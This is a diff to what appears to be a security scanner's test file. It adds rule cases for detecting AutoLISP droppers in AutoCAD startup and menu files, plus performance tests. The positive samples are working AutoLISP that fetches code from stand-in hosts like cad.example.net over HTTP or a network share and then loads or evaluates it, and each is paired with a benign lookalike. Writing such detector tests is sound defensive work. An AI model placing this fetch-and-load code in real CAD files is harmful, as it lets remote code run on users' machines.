@@ -1264,3 +1264,45 @@ describe('adversarial downloaded-file runs', () => {
     expectScansQuickly([text], 'assets/autorun.brs');
   });
 });
+
+describeRuleCases('dropper (AutoLISP fetched and loaded)', [
+  {
+    id: 'SG-DROPPER-911',
+    file: 'support/acad.lsp',
+    positive:
+      '(vl-load-com)\n(defun tools:pull (/ req path fh)\n  (setq path (strcat (getvar "TEMPPREFIX") "tools.lsp"))\n  (setq req (vlax-create-object "WinHttp.WinHttpRequest.5.1"))\n  (vlax-invoke-method req \'Open "GET" "http://cad.example.net/tools.lsp" :vlax-false)\n  (vlax-invoke-method req \'Send)\n  (setq fh (open path "w"))\n  (princ (vlax-get-property req \'ResponseText) fh)\n  (close fh)\n  (load path))\n(tools:pull)\n',
+    // A version check: the text is compared, and only a shipped file is loaded.
+    negative:
+      '(vl-load-com)\n(defun tools:check (/ req log fh)\n  (setq req (vlax-create-object "WinHttp.WinHttpRequest.5.1"))\n  (vlax-invoke-method req \'Open "GET" "https://cad.example.net/version.txt" :vlax-false)\n  (vlax-invoke-method req \'Send)\n  (setq log (strcat (getvar "TEMPPREFIX") "tools.log") fh (open log "a"))\n  (write-line (vlax-get-property req \'ResponseText) fh)\n  (close fh)\n  (load "tools-local.lsp"))\n',
+  },
+  {
+    id: 'SG-DROPPER-911',
+    file: 'lisp/blocks.lsp',
+    positive:
+      '(defun blk:update (/ x)\n  (setq x (vlax-get-or-create-object "Msxml2.XMLHTTP"))\n  (vlax-invoke x \'open "GET" blk:*url* :vlax-false)\n  (vlax-invoke x \'send)\n  (eval (read (vlax-get x \'responseText))))\n',
+    negative:
+      '(defun blk:settings (/ fh)\n  (setq fh (open (findfile "blocks.cfg") "r"))\n  (eval (read (read-line fh)))\n  (close fh))\n',
+  },
+  {
+    id: 'SG-DROPPER-911',
+    file: 'menus/office.mnl',
+    positive:
+      '(setq tmp (vl-filename-mktemp "ofc" nil ".lsp"))\n(vl-file-copy "\\\\\\\\files.example.net\\\\cad\\\\ofc.lsp" tmp)\n(load tmp)\n',
+    negative:
+      '(setq tmp (vl-filename-mktemp "ofc" nil ".lsp"))\n(vl-file-copy "\\\\\\\\files.example.net\\\\cad\\\\titleblock.dwg" (strcat (getvar "DWGPREFIX") "tb.dwg"))\n(load "ofc.lsp")\n',
+  },
+]);
+
+describe('adversarial AutoLISP fetch-and-load', () => {
+  const MiB = 1024 * 1024;
+  const http = '(vlax-create-object "MSXML2.XMLHTTP")\n';
+  const cases: [string, string][] = [
+    ['open calls', http + '(open x "w")'.repeat(MiB / 13)],
+    ['load calls', http + '(load y)'.repeat(MiB / 8)],
+    ['remote copies', '(vl-file-copy "\\\\\\\\h\\\\a" '.repeat(MiB / 24)],
+    ['eval reads', http + '(eval (read '.repeat(MiB / 12)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    expectScansQuickly([text], 'support/acad.lsp');
+  });
+});
